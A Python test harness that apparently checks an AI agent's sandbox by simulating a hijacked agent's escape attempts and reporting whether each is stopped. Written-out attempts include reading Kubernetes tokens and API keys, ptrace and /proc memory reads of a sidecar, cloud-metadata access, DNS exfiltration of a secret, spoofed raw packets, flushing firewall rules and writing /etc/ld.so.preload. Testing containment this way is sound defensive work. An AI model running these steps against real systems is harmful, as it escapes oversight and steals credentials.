"""Attempts of a hijacked agent, each in a process of its own. Prints one line of JSON for each, then "done"."""
import ctypes
import errno
import json
import os
import resource
import select
import signal
import socket
import struct
import subprocess
import sys
import time
import urllib.error
import urllib.request

WORLD = json.loads(sys.argv[1])
SECONDS = 8
libc = ctypes.CDLL(None, use_errno=True)


class Stopped(Exception):
    """Something refused the attempt, and said how."""


def reads(path):
    with open(path, "rb") as file:
        if file.read(64) == b"":
            raise Stopped("empty")
    return f"read {path}"


def writes(path, flags=os.O_WRONLY | os.O_CREAT):
    descriptor = os.open(path, flags, 0o644)
    os.write(descriptor, b"x")
    os.close(descriptor)
    return f"wrote {path}"


def syscall(number, *arguments):
    ctypes.set_errno(0)
    result = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(one) for one in arguments])
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


# Credentials


def token():
    return reads("/var/run/secrets/kubernetes.io/serviceaccount/token")


def documents():
    return reads("/etc/kars/documents/set.json")


def provider_key():
    return reads("/run/kars/credentials/openai")


def state():
    return reads("/var/lib/kars/router/audit.jsonl")


def cluster_variables():
    found = [name for name in os.environ if name.startswith("KUBERNETES_")]
    if not found:
        raise Stopped("no such variable")
    return found[0]


def sidecar():
    """A process of the router, by its arguments."""
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/cmdline", "rb") as file:
                if b"--listen-port=8443" in file.read().split(b"\0"):
                    return int(entry)
        except OSError:
            continue
    raise Stopped("no process of a sidecar is to be seen")


def sidecar_environment():
    return reads(f"/proc/{sidecar()}/environ")


def sidecar_files():
    return reads(f"/proc/{sidecar()}/root/etc/kars/documents/set.json")


def sidecar_descriptors():
    pid = sidecar()
    return f"{len(os.listdir(f'/proc/{pid}/fd'))} descriptors"


def sidecar_memory():
    pid = sidecar()
    with open(f"/proc/{pid}/maps") as file:
        start = int(file.readline().split("-")[0], 16)
    with open(f"/proc/{pid}/mem", "rb") as file:
        file.seek(start)
        return f"{len(file.read(16))} bytes"


def sidecar_memory_by_call():
    pid = sidecar()
    with open(f"/proc/{pid}/maps") as file:
        start = int(file.readline().split("-")[0], 16)
    buffer = ctypes.create_string_buffer(16)
    local = (ctypes.c_uint64 * 2)(ctypes.addressof(buffer), 16)
    remote = (ctypes.c_uint64 * 2)(start, 16)
    return f"{syscall(310, pid, ctypes.addressof(local), 1, ctypes.addressof(remote), 1, 0)} bytes"


def sidecar_traced():
    pid = sidecar()
    syscall(101, 16, pid, 0, 0)
    os.waitpid(pid, 0)
    syscall(101, 17, pid, 0, 0)
    return "attached"


def sidecar_descriptor_taken():
    handle = os.pidfd_open(sidecar())
    return f"descriptor {syscall(438, handle, 0, 0)}"


def sidecar_signalled():
    os.kill(sidecar(), signal.SIGCONT)
    return "signalled"


def sidecar_debugger():
    """SIGUSR1 has a Node.js open its debugger."""
    os.kill(sidecar(), signal.SIGUSR1)
    for _ in range(30):
        try:
            socket.create_connection(("127.0.0.1", 9229), timeout=1).close()
            return "connected to the debugger"
        except OSError:
            time.sleep(0.1)
    raise Stopped("no debugger listens")


def core_file():
    os.chdir("/sandbox")
    child = os.fork()
    if child == 0:
        most = resource.getrlimit(resource.RLIMIT_CORE)[1]
        resource.setrlimit(resource.RLIMIT_CORE, (most, most))
        os.abort()
    _, status = os.waitpid(child, 0)
    if os.WCOREDUMP(status):
        return "dumped"
    raise Stopped("no core")


# Network


def greeting(sock):
    sock.settimeout(3)
    sock.sendall(b"GET / HTTP/1.1\r\nhost: x\r\n\r\n")
    answer = sock.recv(64)
    if b"299 neighbour" in answer:
        return "the neighbour answered"
    raise Stopped((answer.split(b"\r\n")[0] or b"closed").decode(errors="replace"))


def tcp_to(address, family=socket.AF_INET, protocol=0, prepare=lambda sock: None):
    with socket.socket(family, socket.SOCK_STREAM, protocol) as sock:
        sock.settimeout(3)
        prepare(sock)
        sock.connect((address, WORLD["port"]))
        return greeting(sock)


def tcp4():
    return tcp_to(WORLD["v4"])


def tcp6():
    return tcp_to(WORLD["v6"], socket.AF_INET6)


def tcp_mapped():
    return tcp_to(f"::ffff:{WORLD['v4']}", socket.AF_INET6)


def tcp_multipath():
    return tcp_to(WORLD["v4"], protocol=262)


def tcp_bound_to_interface():
    return tcp_to(
        WORLD["v4"],
        prepare=lambda sock: sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0\0"),
    )


def tcp_from_own_port():
    def bind(sock):
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sock.bind(("0.0.0.0", 18443))

    return tcp_to(WORLD["v4"], prepare=bind)


def tcp_fast_open():
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as sock:
        sock.sendto(b"GET / HTTP/1.1\r\nhost: x\r\n\r\n", 0x20000000, (WORLD["v4"], WORLD["port"]))
        sock.settimeout(3)
        answer = sock.recv(64)
        if b"299 neighbour" in answer:
            return "the neighbour answered"
        raise Stopped((answer.split(b"\r\n")[0] or b"closed").decode(errors="replace"))


def udp_to(address, port, message=b"?", connected=True):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.settimeout(3)
        if connected:
            sock.connect((address, port))
            sock.send(message)
        else:
            sock.sendto(message, (address, port))
        if sock.recv(64) == b"neighbour":
            return "the neighbour answered"
    raise Stopped("another answer")


def udp4():
    return udp_to(WORLD["v4"], WORLD["port"])


def udp6():
    return udp_to(WORLD["v6"], WORLD["port"])


def udp_unconnected():
    return udp_to(WORLD["v4"], WORLD["port"], connected=False)


def udp_fragmented():
    return udp_to(WORLD["v4"], WORLD["port"], b"x" * 4000)


def udp_by_light():
    """UDP-Lite is another protocol than UDP."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136) as sock:
        sock.settimeout(3)
        sock.sendto(b"?", (WORLD["v4"], WORLD["port"]))
        return "sent"


def dns_over_udp():
    query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x0esecret-of-mine\x07example\x03com\x00\x00\x10\x00\x01"
    return udp_to(WORLD["dns"], 53, query)


def dns_over_tcp():
    with socket.create_connection((WORLD["dns"], 53), timeout=3) as sock:
        return greeting(sock)


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def echo_request():
    head = struct.pack("!BBHHH", 8, 0, 0, 7, 1)
    return struct.pack("!BBHHH", 8, 0, checksum(head), 7, 1)


def icmp_by_raw_socket():
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as sock:
        sock.settimeout(3)
        sock.sendto(echo_request(), (WORLD["v4"], 0))
        sock.recv(64)
        return "echoed"


def packet_socket():
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800)) as sock:
        sock.bind(("eth0", 0))
        return "bound to eth0"


def own_ip_header():
    """Sends a whole packet, with a source address of its own choice."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        source, target = socket.inet_aton("192.0.2.1"), socket.inet_aton(WORLD["v4"])
        head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28, 0, 0, 64, 17, 0, source, target)
        body = struct.pack("!HHHH", 9, WORLD["port"], 8, 0)
        sock.sendto(head + body, (WORLD["v4"], 0))
        return "sent"


def address_added():
    done = subprocess.run(
        ["ip", "address", "add", "192.0.2.9/32", "dev", "lo"], capture_output=True, text=True
    )
    if done.returncode != 0:
        raise Stopped(done.stderr.strip()[:80])
    return "added"


def rules_removed():
    done = subprocess.run(["nft", "flush", "ruleset"], capture_output=True, text=True)
    if done.returncode != 0:
        raise Stopped(done.stderr.strip().split("\n")[0][:80])
    return "flushed"


def health_of(host, port):
    with socket.create_connection((host, port), timeout=3) as sock:
        sock.sendall(b"GET /internal/policy-status HTTP/1.1\r\nhost: x\r\n\r\n")
        answer = sock.recv(32)
        if b"200" in answer:
            return "status read"
        raise Stopped(answer.decode(errors="replace").split("\r\n")[0])


def own_address():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.connect((WORLD["v4"], 9))
        return sock.getsockname()[0]


def health_of_router():
    return health_of(own_address(), 9080)


def health_of_proxy():
    return health_of(own_address(), 9081)


def metadata():
    with socket.create_connection(("169.254.169.254", 80), timeout=3) as sock:
        return greeting(sock)


# Decisions of proxy and router


def through_proxy(request):
    with socket.create_connection(("127.0.0.1", 8444), timeout=5) as sock:
        sock.settimeout(5)
        sock.sendall(request.encode())
        first = sock.recv(256).decode(errors="replace")
        status = first.split(" ")[1] if " " in first else "closed"
        if status in ("200", "299"):
            return f"status {status}"
        raise Stopped(f"status {status}")


def proxy_connect_to_address():
    target = f"{WORLD['v4']}:{WORLD['port']}"
    return through_proxy(f"CONNECT {target} HTTP/1.1\r\nhost: {target}\r\n\r\n")


def proxy_forward_to_address():
    target = f"{WORLD['v4']}:{WORLD['port']}"
    return through_proxy(f"GET http://{target}/ HTTP/1.1\r\nhost: {target}\r\n\r\n")


def proxy_connect_with_other_host():
    target = f"{WORLD['v4']}:{WORLD['port']}"
    return through_proxy(f"CONNECT {target} HTTP/1.1\r\nhost: allowed.example:443\r\n\r\n")


def chat(body):
    request = urllib.request.Request(
        "http://127.0.0.1:8443/v1/chat/completions",
        json.dumps({"messages": [{"role": "user", "content": "hi"}], **body}).encode(),
        {"content-type": "application/json"},
    )
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    try:
        with opener.open(request, timeout=4) as answer:
            return f"status {answer.status}"
    except TimeoutError:
        # A refusal comes at once; this call waits for a provider that nobody answers for here.
        return "passed on to the provider"
    except urllib.error.HTTPError as error:
        if error.code in (502, 504):
            return "passed on to the provider"
        raise Stopped(f"{error.code} {error.headers.get('x-kars-code', '')}") from None


def other_model():
    return chat({"model": "huge"})


def other_tool():
    return chat({"tools": [{"type": "function", "function": {"name": "shell"}}]})


def too_many_tokens():
    return chat({"max_tokens": 100000})


# Files


def write_root():
    return writes("/etc/kars-was-here")


def write_program():
    return writes("/usr/bin/kars-was-here")


def preload():
    return writes("/etc/ld.so.preload")


def write_device_directory():
    return writes("/dev/kars-was-here")


def replace_launcher():
    return writes("/run/kars/launch/launch", os.O_WRONLY | os.O_TRUNC)


def replace_launch_document():
    os.rename("/run/kars/launch/launch.json", "/run/kars/launch/old.json")
    return "renamed"


def link_through_workspace():
    link = "/sandbox/link"
    if not os.path.islink(link):
        os.symlink("/etc/kars-was-linked", link)
    return writes(link)


def hidden_file_linked():
    descriptor = os.open("/var/tmp", os.O_TMPFILE | os.O_WRONLY, 0o644)
    os.write(descriptor, b"x")
    return "made a file without a name"


def device_node():
    os.mknod("/sandbox/zero", 0o600 | 0o020000, os.makedev(1, 5))
    with open("/sandbox/zero", "rb") as file:
        return f"read {len(file.read(4))} bytes of a device"


def mount_over():
    syscall(165, 0, ctypes.cast(b"/tmp", ctypes.c_void_p).value, 0, 0x1000 | 0x20, 0)
    return "mounted again"


def change_owner():
    with open("/sandbox/owned", "w") as file:
        file.write("x")
    os.chown("/sandbox/owned", 1001, 1001)
    return "owned by the router"


def other_user():
    os.setresuid(1001, 1001, 1001)
    return "runs as the router"


def group_joined():
    os.setgroups([0, 2000])
    return "in the group of the state"


# Resources


def memory():
    child = os.fork()
    if child == 0:
        held = bytearray(WORLD["bytes"])
        for index in range(0, len(held), 4096):
            held[index] = 1
        os._exit(0)
    _, status = os.waitpid(child, 0)
    if os.WIFSIGNALED(status):
        raise Stopped("killed by the kernel")
    return "allocated"


def call(numbers):
    if numbers[0] == 56:
        result = libc.syscall(*[ctypes.c_long(number) for number in numbers])
        if result == 0:
            os._exit(0)
    else:
        ctypes.set_errno(0)
        result = libc.syscall(*[ctypes.c_long(number) for number in numbers])
    if result >= 0:
        return "passed"
    code = errno.errorcode[ctypes.get_errno()]
    if code in ("EPERM", "ENOSYS", "EACCES"):
        raise Stopped(code)
    return f"considered by the kernel: {code}"


def attempt(name):
    if name in WORLD["calls"]:
        return call(WORLD["calls"][name])
    return globals()[name]()


def outcome(name):
    read, write = os.pipe()
    child = os.fork()
    if child == 0:
        os.close(read)
        os.setpgid(0, 0)
        try:
            result = ["succeeded", attempt(name)]
        except Stopped as stopped:
            result = ["stopped", str(stopped)]
        except TimeoutError:
            result = ["stopped", "silence"]
        except OSError as error:
            result = ["stopped", errno.errorcode.get(error.errno, str(error))]
        except BaseException as error:  # noqa: B902, the report has to come
            result = ["error", repr(error)]
        os.write(write, json.dumps(result).encode())
        os._exit(0)
    os.close(write)
    ready, _, _ = select.select([read], [], [], SECONDS)
    text = os.read(read, 4096) if ready else b""
    os.close(read)
    try:
        os.killpg(child, signal.SIGKILL)
    except OSError:
        pass
    _, status = os.waitpid(child, 0)
    if text:
        return json.loads(text)
    if not ready:
        return ["stopped", "silence"]
    return ["stopped", f"ended by signal {os.WTERMSIG(status)}"]


for each in WORLD["attempts"]:
    kind, detail = outcome(each)
    print(json.dumps({"attempt": each, "outcome": kind, "detail": detail}), flush=True)
print(json.dumps({"done": True}), flush=True)
while True:
    time.sleep(3600)
